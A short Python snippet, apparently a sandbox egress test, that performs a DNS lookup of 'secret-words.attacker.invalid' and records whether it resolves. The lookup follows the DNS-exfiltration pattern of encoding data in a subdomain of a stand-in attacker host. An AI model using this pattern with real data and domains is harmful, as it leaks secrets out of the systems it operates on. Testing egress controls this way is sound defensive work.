import socket

try:
    found = socket.getaddrinfo("secret-words.attacker.invalid", 53)
except OSError as exc:
    found = str(exc)
results = {"found": str(found)}
